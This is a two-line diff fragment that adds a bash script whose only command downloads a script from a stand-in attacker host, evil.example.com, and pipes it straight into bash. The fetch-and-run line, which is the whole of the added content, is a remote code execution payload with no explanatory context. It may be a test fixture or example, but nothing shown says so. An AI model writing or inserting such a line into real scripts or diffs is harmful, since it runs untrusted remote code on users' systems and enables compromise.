@@ -1,0 +1,2 @@
+#!/usr/bin/env bash
+bash <(curl -s http://evil.example.com/payload.sh)
